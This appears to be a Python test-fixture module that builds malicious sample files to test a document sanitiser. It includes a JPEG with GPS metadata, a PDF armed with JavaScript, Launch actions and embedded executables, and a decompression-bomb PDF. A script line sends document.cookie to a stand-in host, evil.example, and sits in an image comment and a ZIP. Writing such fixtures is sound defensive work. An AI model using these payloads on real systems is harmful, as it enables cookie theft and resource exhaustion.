"""Documents as people and attackers send them. Each is real: what claims to be two kinds at once opens as both."""

import io
import struct
import zipfile
import zlib
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
PLACE = (53.0, 20.0, 35.9)
"""Where the picture was taken, as a telephone notes it."""


def picture(size: tuple[int, int] = (120, 80), mode: str = "RGB") -> Image.Image:
    """A picture on which left and right, top and bottom can be told apart."""
    found = Image.linear_gradient("L").resize(size).convert(mode)
    found.paste(Image.new(mode, (size[0] // 2, size[1] // 2)), (0, 0))
    return found


def encoded(found: Image.Image, form: str, **more: Any) -> bytes:
    """A picture in one form."""
    out = io.BytesIO()
    found.save(out, form, **more)
    return out.getvalue()


def photo(size: tuple[int, int] = (120, 80), *, turned: bool = False) -> bytes:
    """A photo with everything that a telephone writes beside the pixels."""
    notes = Image.Exif()
    notes[0x010F] = "Kamerafabrik"
    notes[0x0112] = 6 if turned else 1
    notes.get_ifd(0x8825).update({1: "N", 2: PLACE, 3: "W", 4: PLACE})
    comment = b"Ada at home " + SCRIPT
    return encoded(picture(size), "JPEG", quality=95, exif=notes, comment=comment, xmp=b"<x:xmpmeta>Ada</x:xmpmeta>")


def archive() -> bytes:
    """A ZIP archive with a script in it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as found:
        found.writestr("run.html", SCRIPT)
    return out.getvalue()


def png_header(width: int, height: int) -> bytes:
    """A PNG that claims a size and holds nothing of it."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = ((b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 100)), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in parts
    )


def heic() -> bytes:
    """The beginning of a photo as a telephone makes it unless told otherwise."""
    return struct.pack(">I", 24) + b"ftypheic\0\0\0\0mif1heic" + b"\0" * 200


def pdf(text: str = "I, Ada, ask.", pages: int = 1) -> Pdf:
    """A PDF file whose pages say something."""
    found = Pdf.new()
    for _ in range(pages):
        page = found.add_blank_page(page_size=(595, 842))
        page.obj.Contents = found.make_stream(b"BT /F1 12 Tf 72 720 Td (%b) Tj ET" % text.encode())
        helvetica = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        page.obj.Resources = Dictionary(Font=Dictionary(F1=helvetica))
    return found


def bound(found: Pdf, **more: Any) -> bytes:
    """The bytes of a PDF file."""
    out = io.BytesIO()
    found.save(out, **more)
    return out.getvalue()


def armed_pdf() -> bytes:
    """A PDF file with everything that acts, carries or tells something beside its page."""
    found = pdf()
    page = found.pages[0]
    run = Dictionary(S=Name.JavaScript, JS=String("app.alert('kaboom')"))
    start = Dictionary(S=Name.Launch, F=String("cmd-kaboom.exe"))
    away = Dictionary(S=Name.URI, URI=String("https://kaboom.example/"))
    root = found.Root
    root.OpenAction = run
    root.AA = Dictionary(WC=run)
    root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), run])))
    found.attachments["kaboom.exe"] = b"MZ kaboom, not packed"
    page.obj.AA = Dictionary(O=start)
    page.obj.PieceInfo = Dictionary(Kaboom=Dictionary(Private=String("kaboom")))
    page.obj.Thumb = found.make_stream(b"kaboom")
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 595, 842]), A=away)
    button = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("kaboom"), A=start)
    button.Rect = Array([0, 0, 9, 9])
    page.obj.Annots = Array([found.make_indirect(link), found.make_indirect(button)])
    root.AcroForm = Dictionary(Fields=Array([page.obj.Annots[1]]), XFA=found.make_stream(b"<xdp>kaboom</xdp>"))
    found.docinfo["/Author"] = String("kaboom")
    with found.open_metadata() as metadata:
        metadata["dc:title"] = "kaboom"
    for holder in (page.obj, page.obj.Resources, page.obj.Resources.Font.F1, page.obj.Contents, _stamp(found)):
        _stow_away(found, holder)
    return bound(found, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)


def _stamp(found: Pdf) -> pikepdf.Stream:
    """Something that the page draws, in a group of its own."""
    stamp = found.make_stream(b"0 0 5 5 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 5, 5]))
    stamp.Group = Dictionary(S=Name.Transparency)
    found.pages[0].obj.Resources.XObject = Dictionary(Stamp=stamp)
    found.pages[0].contents_add(b"/Stamp Do")
    return stamp


def _stow_away(found: Pdf, holder: pikepdf.Object) -> None:
    """Hang things on an object that nothing draws with."""
    file = found.make_stream(b"MZ kaboom, a stowaway", Type=Name.EmbeddedFile)
    for name in ("/Metadata", "/AF", "/Kaboom", "/Properties", "/F"):
        holder[name] = file
    if holder.get("/Type") != "/Page":
        holder["/Parent"] = found.make_indirect(Dictionary(JS=String("kaboom"), Kid=file))


def filled_form() -> bytes:
    """A PDF file with a form in which somebody typed."""
    found = pdf("Name:")
    look = found.make_stream(b"BT /F1 12 Tf (Ada was here) Tj ET", Type=Name.XObject, Subtype=Name.Form)
    look.BBox, look.Resources = Array([0, 0, 200, 20]), found.pages[0].obj.Resources
    field = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), V=String("Ada was here"))
    field.Rect, field.AP, field.F = Array([72, 600, 272, 620]), Dictionary(N=look), 4
    found.pages[0].obj.Annots = Array([found.make_indirect(field)])
    found.Root.AcroForm = Dictionary(Fields=Array([found.pages[0].obj.Annots[0]]))
    return bound(found)


def pdf_with(packed: bytes, **of_picture: Any) -> bytes:
    """A PDF file with a picture on its page."""
    found = pdf()
    image = found.make_stream(packed)
    image.stream_dict = Dictionary(
        Type=Name.XObject, Subtype=Name.Image, ColorSpace=Name.DeviceRGB, BitsPerComponent=8, **of_picture
    )
    found.pages[0].obj.Resources.XObject = Dictionary(I=image)
    found.pages[0].contents_add(b" q 100 0 0 100 72 400 cm /I Do Q ")
    return bound(found)


def packed_thousandfold(size: int, *, twice: bool = False) -> bytes:
    """A small PDF file whose page unpacks to ``size`` bytes."""
    packer, piece = zlib.compressobj(9), b"\0" * (1 << 20)
    packed = b"".join([*(packer.compress(piece) for _ in range(size >> 20)), packer.flush()])
    found = pdf()
    if twice:
        found.pages[0].obj.Contents.write(zlib.compress(packed, 9), filter=Array([Name.FlateDecode, Name.FlateDecode]))
    else:
        found.pages[0].obj.Contents.write(packed, filter=Name.FlateDecode)
    level = pikepdf.StreamDecodeLevel.none
    return bound(found, compress_streams=False, stream_decode_level=level)


def text_of(data: bytes) -> bytes:
    """Everything that the pages of a PDF file draw with, unpacked."""
    with Pdf.open(io.BytesIO(data)) as found:
        parts = []
        for each in found.objects:
            if isinstance(each, pikepdf.Stream):
                try:
                    parts.append(each.read_bytes())
                except pikepdf.PdfError:
                    parts.append(each.read_raw_bytes())
        return b"\n".join(parts)
